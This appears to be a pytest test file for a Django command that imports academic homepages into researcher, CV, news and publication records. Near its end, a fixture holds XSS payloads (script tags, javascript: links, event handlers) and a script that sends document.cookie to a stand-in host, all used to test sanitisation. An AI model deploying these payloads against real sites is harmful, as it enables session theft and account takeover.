"""import_homepage: each reference homepage, imported as it is, lands fact by fact in structured records."""

import datetime
import io
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from news.models import NewsItem
from portal.importers.homepage.services import homepage_import
from publications.models import Authorship, LinkState, Publication, ResearchTheme, Status
from researchers.models import CVEntry, Link, NameVariant, Researcher, ResearchInterest, Role, Supervisor
from tests.security.active_content import active_content

SEEDS = Path(__file__).resolve().parents[3] / "shared" / "seeds"
DATA = Path(__file__).resolve().parents[1] / "data" / "homepage"
YI_LIU = SEEDS / "alfolio-about-yi-liu.md"
HAOZHE = SEEDS / "acadhomepage-haozhe-liu.md"
INDUSTRY = SEEDS / "academicpages-about-industry.md"
AWARD, EDUCATION, EXPERIENCE, SERVICE, COMPETITION, TALK = (
    CVEntry.Section.AWARD,
    CVEntry.Section.EDUCATION,
    CVEntry.Section.EXPERIENCE,
    CVEntry.Section.SERVICE,
    CVEntry.Section.COMPETITION,
    CVEntry.Section.TALK,
)


def run(path, member, *args):
    out = io.StringIO()
    call_command("import_homepage", str(path), "--member", member, *args, stdout=out)
    return out.getvalue()


def cv(member, section):
    return [
        (entry.title, entry.organisation, entry.dates, entry.url)
        for entry in member.cv_entries.filter(section=section).order_by("order")
    ]


def authors(publication):
    """[(name as printed, equal contribution, corresponding, linked member's slug or '')] in order."""
    return [
        (row.name, row.equal_contribution, row.corresponding, row.researcher.slug if row.member else "")
        for row in publication.authorships.order_by("position")
    ]


def everything():
    """A fingerprint of every row an import can write, to prove a re-run or a dry run changes nothing."""
    rows = []
    for model in (Researcher, Link, Supervisor, ResearchInterest, CVEntry, NameVariant, NewsItem, Publication):
        rows.extend(model.objects.order_by("pk").values_list())
    rows.extend(Authorship.objects.order_by("pk").values_list())
    rows.extend(ResearchTheme.objects.order_by("pk").values_list("pk", "title", "parent", "description", "order"))
    rows.extend(ResearchTheme.publications.through.objects.order_by("pk").values_list())
    return [tuple(str(value) for value in row if not isinstance(value, datetime.datetime)) for row in rows]


def test_yi_liu_al_folio_page_fills_the_profile_field_by_field(db):
    output = run(YI_LIU, "yi-liu")
    member = Researcher.objects.get(slug="yi-liu")
    assert member.name == "Yi Liu"  # the bold name the page opens with
    assert member.native_name == "刘毅"  # mojibake on the page, repaired
    assert list(member.name_variants.values_list("name", "kind")) == [("Liu Yi", NameVariant.Kind.TRANSLITERATION)]
    assert member.role == Role.MASTER
    assert member.position == "First-year master's student of Computer Science and Technology"
    assert member.affiliation == "ADMIS Lab, College of Computer Science and Technology, Tongji University"
    assert (
        member.address
        == "Jiading Campus, Tongji University\n4800 Cao'an Road, Jiading District\nShanghai 201804, China"
    )
    assert member.email_list == ["liuyi2052697@foxmail.com", "liuyi61@tongji.edu.cn"]  # the preferred one first
    assert list(member.supervisors.values_list("name", "url")) == [
        ("Associate Professor Wengen Li", "https://admis-tongji.github.io/members/03wengen-li.html")
    ]
    assert list(member.interests.values_list("title", "description")) == [
        ("Various generative models", "With a specialization in diffusion models"),
        ("Low-level vision domain", ""),
        ("Developing efficient generative models", ""),
    ]
    assert cv(member, EDUCATION) == [
        (
            "First-year master's student of Computer Science and Technology",
            "ADMIS Lab, College of Computer Science and Technology, Tongji University",
            "",
            "https://admis-tongji.github.io/",
        ),
        (
            "Bachelor’s degree in Computer Science and Technology",
            "College of Electronic and Information Engineering, Tongji University",
            "2024",
            "https://see-en.tongji.edu.cn/",
        ),
    ]
    # The bio keeps the prose and the numbered goals as markdown; the contact line became the e-mails.
    assert member.bio.startswith("**Yi Liu (or Liu Yi，刘毅)** is currently a first-year master's student")
    assert "1. Understanding the mathematical principles underlying generative models" in member.bio
    assert "4. Optimizing the training and inference of generative models" in member.bio
    assert "<ol>" in member.bio_html and member.bio_html.count("<li>") == 4
    assert "mailto" not in member.bio and "@" not in member.bio
    assert "Bachelor’s degree" in member.bio and "â€" not in member.bio
    assert "photo profile.jpg is named by the page but not in the folder imported" in output
    assert "Everything on the page was mapped." in output


def test_academicpages_page_maps_interests_awards_news_service_education_and_the_recruiting_notice(db):
    output = run(INDUSTRY, "industry-author", "--name", "Industry Author")
    member = Researcher.objects.get(slug="industry-author")
    assert member.name == "Industry Author"
    assert member.position == "Machine learning system researcher scientist"
    assert member.affiliation == "ByteDance"
    assert member.role == Role.ENGINEER
    assert member.availability == (
        "**I am seeking highly motivated full-time employees and research interns. "
        "If interested, please contact me directly!**"
    )
    assert "<strong>I am seeking" in member.availability_html
    assert member.bio.startswith("I am now machine learning system researcher scientist at ByteDance.")
    assert "<!--" not in member.bio and "postdoc program" not in member.bio
    assert list(member.supervisors.values_list("name", "url", "note")) == [
        ("Prof. Yun Liang", "https://ericlyun.github.io/", "Ph.D. advisor")
    ]
    assert list(member.interests.values_list("title", "description")) == [
        ("High-performance Inference System", "System design for large language and vision models"),
        ("AI Compiler", "Compiler Design for the next generation of accelerators"),
        ("Distributed Systems", "Computation-communication co-optimization and automation"),
    ]
    assert [(entry.title, entry.date_text) for entry in member.cv_entries.filter(section=AWARD)] == [
        ("Outstanding Doctoral Dissertation Award of Peking University", "July 2024"),
        ("Outstanding Ph.D. Graduate of both Beijing and Peking University", "July 2024"),
    ]
    assert cv(member, EDUCATION) == [
        ("Ph.D.", "School of CS, Peking University", "", ""),
        ("B.S.", "Department of Computer Intelligence Science, Peking University", "", ""),
    ]
    visit = member.cv_entries.get(section=EXPERIENCE)
    assert (visit.title, visit.organisation, visit.url) == (
        "Visiting Ph.D.",
        "SAMPL, University of Washington",
        "https://sampl.cs.washington.edu/",
    )
    assert (visit.start_date, visit.end_date) == (datetime.date(2023, 9, 1), datetime.date(2024, 1, 1))
    assert visit.description == (
        "Worked with Professor [Luis Ceze](https://homes.cs.washington.edu/~luisceze/) on LLM serving and optimization."
    )
    assert [(entry.title, entry.organisation) for entry in member.cv_entries.filter(section=SERVICE)] == [
        ("PC member", "ChinaSys"),
        ("Reviewer", "TPDS"),
        ("Reviewer", "TACO"),
        *(("Sub-reviewer", venue) for venue in ("MICRO", "PPoPP", "MLSys", "ICS", "ICCAD")),
    ]
    assert list(NewsItem.objects.filter(owner=member).order_by("-date").values_list("date", "body")) == [
        (
            datetime.date(2024, 9, 1),
            "Our paper **ArkVale: Efficient Generative LLM Inference with Recallable Key-Value Eviction** "
            "has been accepted by NeurIPS 2024!",
        ),
        (datetime.date(2024, 8, 1), "Join ByteDance as TopSeed researcher"),
    ]
    # The commented-out lines are listed, with their line numbers, not imported.
    assert "academicpages-about-industry.md:12: HTML comment, hidden on the page" in output
    assert "academicpages-about-industry.md:23: HTML comment" in output
    assert "academicpages-about-industry.md:45: HTML comment" in output


HAOZHE_NEWS = [
    ((2025, 2), "🎉 One paper is accepted by CVPR!"),
    ((2025, 2), "🎉 One paper is accepted by TMLR!"),
    (
        (2024, 11),
        "🎉🎉 **I will join Meta (MPK) as Research Scientist Intern, focusing on GenAI-related topics, in Summer 2025!**",  # noqa: E501
    ),
    ((2024, 4), "🎉 Promote to Ph.D. Candidate!"),
    ((2024, 2), "🎉 One paper is accepted by CVPR'2024!"),
    (
        (2024, 2),
        "🎉🎉 **I will join Meta (London) as Research Scientist Intern on Efficient Video Generation in Summer 2024!**",
    ),
    (
        (2023, 12),
        "🎉 [NLSOM](https://arxiv.org/pdf/2305.17066.pdf) is recognized as the best paper at NeurIPS'2023 workshop in "
        "[Robustness of Few-shot/Zero-shot Learning in Foundation Models](https://neurips.cc/virtual/2023/workshop/66517) !",  # noqa: E501
    ),
    ((2023, 9), "🎉 One paper is accepted by NeurIPS'2023!"),
    ((2023, 8), "Invited as a reviewer for AAAI'2024."),
    ((2023, 7), "🎉🎉 Two papers are accepted by ICCV'2023!."),
    ((2023, 2), "🎉🎉 Two papers are accepted by CVPR'2023!."),
    ((2023, 2), "Invited as a reviewer for ICCV'2023."),
    ((2022, 11), "🎉🎉 One paper is accepted by AAAI'2023 (Oral)."),
    ((2022, 11), "Invited as a reviewer for CVPR'2023."),
    (
        (2022, 8),
        "🎉🎉 **I join AI Initiative, KAUST to pursue the Ph.D. degree under the supervision of Juergen Schmidhuber!**",
    ),
    (
        (2022, 8),
        "🎉 Our team reaches to the 4th/40 in [NICO challenge](https://nicochallenge.com/) "
        "(Invited Workshop Paper in ECCV'2022).",
    ),
    ((2022, 7), "🎉 One paper is accepted by ECCV'2022!"),
    ((2022, 6), "🎉 Two papers are accepted by MICCAI'2022!"),
    (
        (2022, 5),
        "[Our method (Group-wise Inhibition)](https://github.com/LinusWu/TENET_Training) is merged into the official "
        "benchmark of [ImageNet-C](https://github.com/hendrycks/robustness)!",
    ),
    ((2022, 4), "Invited as a reviewer for ICML'2022, ECCV'2022 and MICCAI'2022."),
    ((2021, 10), "Invited as a reviewer for CVPR'2022."),
    ((2021, 7), "🎉 One paper is accepted by ICCV'2021!"),
]

H = "haozhe-liu"
# title, [(author, equal, corresponding, linked)], venue as printed, badge, year, status, note
HAOZHE_PAPERS = [
    (
        "MarDini: Masked Autoregressive Diffusion for Video Generation at Scale",
        ["H. Liu", "S. Liu", "Z. Zhou", "M. Xu", "Y. Xie", "X. Han", "J. M. Pérez-Rúa"],
        "Techinical Report", "", 2024, Status.UNDER_REVIEW, "",
    ),
    (
        "Faster Diffusion via Temporal Attention Decomposition",
        ["H. Liu", "W. Zhang", "J. Xie", "F. Faccio", "M. Xu", "T. Xiang", "J. Schmidhuber"],
        "TMLR", "TMLR", 2024, Status.PUBLISHED, "",
    ),
    (
        "Lazy Layers to Make Fine-Tuned Diffusion Models More Traceable",
        ["H. Liu", "W. Zhang", "B. Li", "B. Ghanem", "J. Schmidhuber"],
        "Techinical Report", "", None, Status.PUBLISHED, "",
    ),
    (
        "Learning to Identify Critical States for Reinforcement Learning from Videos",
        ["H. Liu", "M. Zhuge", "B. Li", "Y. Wang", "F. Faccio", "B. Ghanem", "J. Schmidhuber"],
        "ICCV", "ICCV", 2023, Status.PUBLISHED, "",
    ),
    (
        "AdaptiveMix: Improving GAN Training via Feature Space Shrinkage",
        ["H. Liu", "W Zhang", "B. Li", "H. Wu", "N. He", "Y. Huang", "Y. Li", "B. Ghanem", "Y. Zheng"],
        "CVPR", "CVPR", 2023, Status.PUBLISHED, "",
    ),
    (
        "Combating Mode Collapse in GANs via Manifold Entropy Estimation",
        ["H. Liu", "B. Li", "H. Wu", "H. Liang", "Y. Huang", "Y. Li", "Y. Zheng"],
        "AAAI", "AAAI", 2023, Status.PUBLISHED, "Oral",
    ),
    (
        "Group-wise Inhibition based Feature Regularization for Robust Classification",
        ["H. Liu", "H. Wu", "W. Xie", "F. Liu", "L. Shen"],
        "ICCV", "ICCV", 2021, Status.PUBLISHED, "",
    ),
    (
        "Fingerprint Presentation Attack Detector Using Global-Local Model",
        ["H. Liu", "W. Zhang", "F. Liu", "H. Wu", "L. Shen"],
        "IEEE T-CYB", "IEEE T-CYB", 2021, Status.PUBLISHED, "",
    ),
    (
        "Decoupled Mixup for Out-of-Distribution Visual Recognition",
        ["H. Liu", "W. Zhang", "J. Xie", "H. Wu", "B. Li", "Z. Zhang", "Y. Li", "Y. Huang", "B. Ghanem", "Y. Zheng"],
        "ECCV Workshop", "ECCV Workshop", 2022, Status.PUBLISHED, "",
    ),
    (
        "Cross-Attention Makes Inference Cumbersome in Text-to-Image Diffusion Models",
        ["W. Zhang", "H. Liu#", "J. Xie", "F. Faccio", "M. Z. Shou", "J. Schmidhuber"],
        "Technical Report", "", 2024, Status.PUBLISHED, "",
    ),
    (
        "Dynamically Masked Discriminator for Generative Adversarial Networks",
        ["W. Zhang*", "H. Liu*", "B. Li", "J. Xie", "Y. Huang", "Y. Li", "Y. Zheng", "B. Ghanem"],
        "NeurIPS", "NeurIPS", 2023, Status.PUBLISHED, "",
    ),
    (
        "Mindstorms in Natural Language-Based Societies of Mind",
        ["M. Zhuge*", "H. Liu*", "F. Faccio*", "D. R. Ashley*", "R. Csordás", "A. Gopalakrishnan", "J. Schmidhuber"],
        "NeuralIPSW", "NeuralIPSW", 2023, Status.PUBLISHED, "Position Paper, Best Paper",
    ),
    (
        "NewsNet: A Novel Dataset for Hierarchical Temporal Segmentation",
        ["H. Wu*", "K. Chen*", "H. Liu*", "M. Zhuge*", "B Li", "B. Ghanem"],
        "CVPR", "CVPR", 2023, Status.PUBLISHED, "",
    ),
    (
        "Point Beyond Class: A Benchmark for Weakly Semi-Supervised Abnormality Localization in Chest X-Rays",
        ["H. Ji*", "H. Liu*", "Y. Li*", "J. Xie", "N. He", "Y. Huang", "W. Dong", "X. Chen", "L. Shen", "Y. Zheng"],
        "MICCAI", "MICCAI", 2022, Status.PUBLISHED, "",
    ),
    (
        "Effective Presentation Attack Detection Driven by Face Related Task",
        ["W. Zhang*", "H. Liu*", "F. Liu", "R. Ramachandra", "C. Busch"],
        "ECCV", "ECCV", 2022, Status.PUBLISHED, "",
    ),
]  # fmt: skip


def expected_authors(names):
    """'H. Liu*' → ('H. Liu', equal, corresponding, 'haozhe-liu' for the page owner)."""
    rows = []
    for name in names:
        bare = name.rstrip("*#")
        rows.append((bare, name.endswith("*"), name.endswith("#"), H if bare == "H. Liu" else ""))
    return rows


@pytest.fixture
def haozhe(db):
    output = run(HAOZHE, H, "--name", "Haozhe Liu")
    return Researcher.objects.get(slug=H), output


def test_haozhe_liu_acadhomepage_profile_without_mojibake(haozhe):
    member, output = haozhe
    assert member.name == "Haozhe Liu"
    assert (member.position, member.affiliation, member.role) == ("Ph.D. student", "KAUST", Role.PHD)
    assert member.email_list == ["haozhe.liu@kaust.edu.sa"]  # written haozhe.liu[at]kaust.edu.sa
    assert member.availability == (
        "I'm open to future collaborations—whether it's co-founding a venture or pursuing full-time opportunities "
        "in industry or academia."
    )
    assert "multimodal generative models—particularly video and image generation—with" in member.bio
    assert "‚Äî" not in member.bio and "{%" not in member.bio and "anchor" not in member.bio
    assert "haozhe.liu" not in member.bio
    assert list(member.supervisors.values_list("name", "url")) == [
        ("Prof. Juergen Schmidhuber", "https://scholar.google.com/citations?user=gLnCTgIAAAAJ&hl=en")
    ]
    assert list(member.name_variants.values_list("name", "kind")) == [("Liu, H.", NameVariant.Kind.INITIALS)]
    assert "CV ./haozheliu.pdf is named by the page but not in the folder imported" in output


def test_haozhe_liu_news_keep_their_dates_emoji_and_links(haozhe):
    member, _ = haozhe
    stored = list(NewsItem.objects.filter(owner=member).order_by("-date", "pk").values_list("date", "body"))
    assert stored == [(datetime.date(year, month, 1), body) for (year, month), body in HAOZHE_NEWS]


def test_haozhe_liu_honors_competition_and_reviewing_are_cv_entries(haozhe):
    member, _ = haozhe
    assert [(entry.date_text, entry.title, entry.description) for entry in member.cv_entries.filter(section=AWARD)] == [
        ("2023", "Best Paper Award at NeuralIPS Workshop in Robustness of Few-shot/Zero-shot Learning in Foundation Models", ""),  # noqa: E501
        ("2022", "Outstanding Graduate Award", "**Rate<5%**"),
        ("2021", "China National Scholarship", "**Rate<0.02%**"),
        ("2020", "Excellent Academic Scholarship, First Class", ""),
        ("2019", "Excellent Academic Scholarship, Second Class", ""),
    ]  # fmt: skip
    assert [(entry.date_text, entry.title) for entry in member.cv_entries.filter(section=COMPETITION)] == [
        ("2018", "National University Big Data Application Innovation Competition in Northwest, First Place")
    ]
    assert [
        (entry.title, entry.organisation, entry.date_text) for entry in member.cv_entries.filter(section=SERVICE)
    ] == [
        ("Conference Reviewer", "CVPR", "2022, 2023"),
        ("Conference Reviewer", "ECCV", "2022, 2024"),
        ("Conference Reviewer", "ICCV", "2023"),
        ("Conference Reviewer", "AAAI", "2024"),
        ("Conference Reviewer", "ICML", "2022"),
        ("Conference Reviewer", "MICCAI", "2022"),
    ]
    assert cv(member, EDUCATION) == [("Ph.D. student", "KAUST", "", "")]


def test_haozhe_liu_research_experience_keeps_organisation_role_mentors_and_highlights(haozhe):
    member, _ = haozhe
    entries = list(member.cv_entries.filter(section=EXPERIENCE))
    assert [(entry.organisation, entry.title) for entry in entries] == [
        ("Meta AI", "Research Scientist Internship"),
        ("AI Initiative (KAUST)", "PhD Candidate"),
        ("Jarvis Lab (Tencent)", "Internship"),
        ("Norwegian Biometrics Laboratory (NTNU)", "Visiting student"),
        ("Computer Vision Insitute (SZU)", "M.S."),
    ]
    meta = entries[0].description
    assert meta.startswith(
        "Research Scientist Internship working with "
        "[Juan-Manuel Pérez-Rúa](https://scholar.google.com/citations?user=Vbvimu4AAAAJ&hl=en)."
    )
    assert "- Research Topic: Foundational Training, Image-to-Video Generation, Text-to-Image Generation." in meta
    assert "- Scaling auto-regressive diffusion to video generation." in meta
    assert meta.count("\n- ") == 4
    tencent = entries[2].description
    for mentor in ("[Dr. Yawen Huang](https://yawen-hwang.github.io/)", "Director: [Dr. Yefeng Zheng]("):
        assert mentor in tencent
    assert "- Highlight: Ranked 4th in ECCV'2022 NICO Challenge." in tencent
    assert "- Highlight: TGate is merged into the Diffusers Library" in entries[1].description
    assert (
        "[Prof. Christoph Busch](https://scholar.google.com/citations?user=qsopcXIAAAAJ&hl=en)"
        in entries[3].description
    )
    assert (
        "<ul>" in entries[4].description_html and "Recognized as China National Scholarship" in entries[4].description
    )


def test_haozhe_liu_publications_are_stored_once_with_authors_marks_venues_and_status(haozhe):
    member, output = haozhe
    assert Publication.objects.count() == len(HAOZHE_PAPERS)
    for title, names, venue, badge, year, status, note in HAOZHE_PAPERS:
        paper = Publication.objects.get(title=title)
        assert authors(paper) == expected_authors(names), title
        assert (paper.venue_text, paper.extra.get("abbr", ""), paper.year, paper.status, paper.note) == (
            venue,
            badge,
            year,
            status,
            note,
        ), title
        mine = paper.authorships.get(researcher=member, link_state=LinkState.CONFIRMED)
        assert mine.selected, title
    assert Publication.objects.get(title__startswith="Cross-Attention").kind == "techreport"
    assert Publication.objects.get(title__startswith="Dynamically").kind == "inproceedings"
    assert Publication.objects.get(title__startswith="Decoupled").kind == "workshop"
    assert Publication.objects.get(title__startswith="Faster").kind == "article"
    assert list(Publication.objects.selected_by(member)) != []
    # The page prints "…" for left-out authors: said, not hidden.
    assert "'MarDini: Masked Autoregressive Diffusion for Video Generation at Scale' (line 59)" in output
    assert "acadhomepage-haozhe-liu.md:11: Liquid template code, not run" in output
    assert "acadhomepage-haozhe-liu.md:18: empty HTML element" in output
    assert "acadhomepage-haozhe-liu.md:52: text in the publications section that is not a publication" in output


@pytest.mark.parametrize(("seed", "slug"), [(YI_LIU, "yi-liu"), (INDUSTRY, "industry-author"), (HAOZHE, "haozhe-liu")])
def test_importing_a_page_again_changes_nothing_and_duplicates_nothing(db, seed, slug):
    first = homepage_import(path=seed, member_slug=slug, name="Some Name")
    before = everything()
    again = homepage_import(path=seed, member_slug=slug, name="Some Name")
    assert everything() == before
    assert again.total("created") == 0 and again.total("updated") == 0
    assert again.total("unchanged") == first.total("created")
    assert not again.member_created


def test_a_dry_run_writes_nothing_but_reports_what_it_would_do(db):
    output = run(HAOZHE, "haozhe-liu", "--name", "Haozhe Liu", "--dry-run")
    assert output.startswith("Dry run, nothing written.")
    assert "news: 22 created" in output
    assert Researcher.objects.count() == Publication.objects.count() == NewsItem.objects.count() == 0
    assert CVEntry.objects.count() == 0


def test_a_new_member_needs_a_name_when_the_page_gives_none(db):
    with pytest.raises(CommandError, match="pass --name"):
        run(INDUSTRY, "nameless")
    assert not Researcher.objects.exists()


def test_an_existing_member_keeps_their_name_and_gains_the_page(db, alice):
    run(YI_LIU, alice.slug)
    alice.refresh_from_db()
    assert alice.name == "Alice Moreau" and alice.native_name == "刘毅"
    assert Researcher.objects.count() == 1


def test_a_page_with_broken_front_matter_is_refused_and_nothing_is_written(db, tmp_path):
    page = tmp_path / "about.md"
    page.write_text("---\ntitle: about\nprofile: [unclosed\n---\n\n**Ann Example** is a PhD student at X.\n")
    with pytest.raises(CommandError, match=r"front matter of about\.md is not valid YAML \(line \d+\)"):
        run(page, "ann-example")
    assert not Researcher.objects.exists()


def test_a_missing_path_is_a_clear_error(db, tmp_path):
    with pytest.raises(CommandError, match="neither a Markdown file nor a site folder"):
        run(tmp_path / "nowhere.md", "someone", "--name", "Someone")


def test_an_al_folio_site_folder_imports_config_socials_news_bibliography_photo_and_research_themes(db, alice):
    output = run(DATA / "alfolio-site", "ada-quint")
    member = Researcher.objects.get(slug="ada-quint")
    assert member.name == "Ada Quint"  # from _config.yml
    assert member.native_name == "李爱达"
    assert (member.position, member.affiliation) == ("PhD student", "Example Vision Lab, Example University")
    assert member.address == "Room 301, Example Hall\n1 University Road, Springfield"
    assert member.email_list == ["ada.quint@example.edu", "ada@example.edu"]
    assert member.orcid == "0000-0002-1825-0097"
    assert member.photo and member.photo_thumb  # prof_pic.png, validated and re-encoded
    assert list(member.links.values_list("kind", "url", "label")) == [
        (Link.Kind.SCHOLAR, "https://scholar.google.com/citations?user=AdaQ1234AAAAJ", ""),
        (Link.Kind.GITHUB, "https://github.com/adaquint", ""),
        (Link.Kind.X, "https://x.com/ada_quint", ""),
        (Link.Kind.OTHER, "https://researchmap.jp/adaquint", "researchmap"),
    ]
    assert list(member.supervisors.values_list("name", "url")) == [
        ("Prof. Grace Hopper", "https://hopper.example.edu/")
    ]
    assert list(member.interests.values_list("title", "description")) == [
        ("Efficient training", "With a focus on sparse updates"),
        ("Small models", ""),
    ]
    assert [(entry.date_text, entry.title, entry.description) for entry in member.cv_entries.filter(section=AWARD)] == [
        ("2023", "Best Student Paper Award", "**top 1%**")
    ]
    assert [entry.title for entry in member.cv_entries.filter(section=COMPETITION)] == [
        "Regional Programming Contest, Gold Medal"
    ]
    assert list(NewsItem.objects.filter(owner=member).order_by("date").values_list("date", "body")) == [
        (datetime.date(2023, 9, 15), "**Joined the Example Vision Lab**\n\nI started my PhD with Prof. Grace Hopper."),
        (
            datetime.date(2024, 3, 1),
            "Our paper on sparse updates was accepted at [ICML 2024](https://icml.cc/)! :sparkles:",
        ),
    ]
    sparse = Publication.objects.get(title="Sparse Updates Make Training Fast")
    assert (sparse.badge, sparse.code_repository, sparse.pdf_url) == (
        "ICML",
        "adaquint/sparse-updates",
        "https://arxiv.org/pdf/2401.01234",
    )
    assert authors(sparse) == [
        ("Ada Quint", False, False, "ada-quint"),
        ("Alice Moreau", False, False, "alice-moreau"),
    ] + [("Min Lee", False, False, "")]
    assert sparse.authorships.get(researcher=member).selected
    efficiency = ResearchTheme.objects.get(researcher=member, parent=None)
    assert (efficiency.title, efficiency.description) == ("Efficiency", "Spending less compute for the same accuracy.")
    children = list(efficiency.children.order_by("order"))
    assert [(theme.title, theme.description) for theme in children] == [
        ("Faster training", "Updating only the weights that matter."),
        ("Smaller models", "Models small enough for a phone."),
    ]
    assert [paper.title for paper in children[0].publications.all()] == ["Sparse Updates Make Training Fast"]
    assert [paper.title for paper in children[1].publications.all()] == ["Tiny Models Are Enough"]
    assert "_pages/research.md:7: research page text before its first theme" in output


def test_an_academicpages_site_folder_imports_publications_talks_tsv_and_star_badges(db, alice):
    output = run(DATA / "academicpages-site", "ben-okoro")
    member = Researcher.objects.get(slug="ben-okoro")
    assert (member.name, member.position) == ("Ben Okoro", "Postdoctoral researcher")
    assert member.affiliation == "Example Institute of Technology"  # _config.yml's author.employer, over the prose
    assert "Guessed, please check" in output and "position 'Postdoctoral researcher' read from the sentence" in output
    assert member.address == "Lagos, Nigeria"  # author.location
    assert member.email_list == ["ben.okoro@example.org"]
    assert list(member.links.values_list("kind", "url")) == [
        (Link.Kind.SCHOLAR, "https://scholar.google.com/citations?user=BenO5678AAAAJ"),
        (Link.Kind.GITHUB, "https://github.com/benokoro"),
        (Link.Kind.X, "https://x.com/benokoro"),
    ]
    assert not member.photo and "photo refused: This file is not an image we can read." in output
    # _publications/*.md and publications.tsv describe the same paper: stored once.
    assert Publication.objects.filter(title="Sparse Graphs for Everyone").count() == 1
    sparse = Publication.objects.get(title="Sparse Graphs for Everyone")
    assert (sparse.venue_text, sparse.year, sparse.month, sparse.kind) == (
        "Journal of Graph Learning",
        2023,
        5,
        "article",
    )
    assert sparse.pdf_url == "https://graphs.example.org/sparse.pdf"
    assert authors(sparse) == [("B. Okoro", False, False, "ben-okoro"), ("A. Moreau", False, False, "")]
    assert sparse.authorships.get(position=2).link_state == LinkState.SUGGESTED  # alice, loosely: she decides
    assert sparse.abstract == "We show that sparse graphs are enough for everyone."
    dense = Publication.objects.get(title="Dense Graphs Revisited")
    assert (dense.year, dense.kind, dense.venue_text) == (2021, "workshop", "Graph Workshop at ICLR")
    messages = Publication.objects.get(title="Message Passing Without Messages")
    assert (messages.badge, messages.year, messages.note) == ("NeurIPS", 2024, "Spotlight")
    assert messages.code_repository == "benokoro/mpwm"  # the shields.io stars badge
    assert messages.pdf_url == "https://arxiv.org/pdf/2405.00001"
    assert authors(messages) == [("B. Okoro", False, False, "ben-okoro"), ("A. Moreau", True, False, "")]
    budget = Publication.objects.get(title="Graphs on a Budget")
    assert budget.code_repository == "benokoro/budget-graphs"  # the GitHub star button iframe
    assert budget.status == Status.UNDER_REVIEW
    assert authors(budget) == [("L. Chen", False, False, ""), ("B. Okoro", False, True, "ben-okoro")]
    talks = [
        (entry.title, entry.organisation, entry.place, entry.start_date, entry.url)
        for entry in member.cv_entries.filter(section=TALK)
    ]
    assert talks == [
        ("Graphs in the Wild", "University of Lagos, Department of Computer Science", "Lagos, Nigeria", datetime.date(2022, 11, 3), ""),  # noqa: E501
        ("Sparse Message Passing", "Graph Learning Summit", "Accra, Ghana", datetime.date(2023, 6, 12), "https://summit.example.org/posters/12"),
    ]  # fmt: skip
    assert member.cv_entries.get(title="Sparse Message Passing").description.startswith("Poster.")
    assert "iframe" not in output  # the star button carried data, so it was read, not dropped


HOSTILE = """---
layout: about
title: about
profile:
  more_info: <p>Office <script>alert(1)</script>12</p>
---

**Eve Sample** is a PhD student at the [Lab](javascript:alert(1)) of Example University, advised by [Prof. Mallory](javascript:alert(2)).
<script>document.location='https://evil.example/'+document.cookie</script>
<img src=x onerror=alert(3)> Hello <a href="javascript:alert(4)" onclick="alert(5)">click</a>.
<iframe src="https://evil.example/frame"></iframe>

# Research Interests

- **<img src=x onerror=alert(6)>Safety** <svg onload=alert(7)>description</svg>

# News

- *2024.01*: <b onmouseover=alert(8)>Hi</b> [x](javascript:alert(9)) <style>body{display:none}</style>

# Awards

- *2023* Best <script>alert(10)</script>Award [link](javascript:alert(11))

# Publications

- **Sample, E.**, Other, O. (2024). A <img src=x onerror=alert(12)> Title. _ICML'2024_. [PDF](javascript:alert(13)) [Code](https://github.com/eve/x)
"""  # noqa: E501


def test_a_page_with_scripts_and_event_handlers_imports_with_nothing_active_on_any_page(db, client, tmp_path):
    page = tmp_path / "about.md"
    page.write_text(HOSTILE)
    output = run(page, "eve-sample")
    member = Researcher.objects.get(slug="eve-sample")
    assert member.interests.exists() and member.cv_entries.exists() and NewsItem.objects.exists()
    paper = Publication.objects.get()
    assert paper.pdf_url == "" and paper.code_url == "https://github.com/eve/x"
    assert not member.supervisors.filter(url__startswith="javascript").exists()
    for url in (
        member.get_absolute_url(),
        f"/people/{member.slug}/cv/",
        f"/people/{member.slug}/publications/",
        "/publications/",
        paper.get_absolute_url(),
        "/news/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert active_content(response.content.decode()) == [], url
    assert "script or style, not run" in output
    assert "link that could run code, kept as text" in output
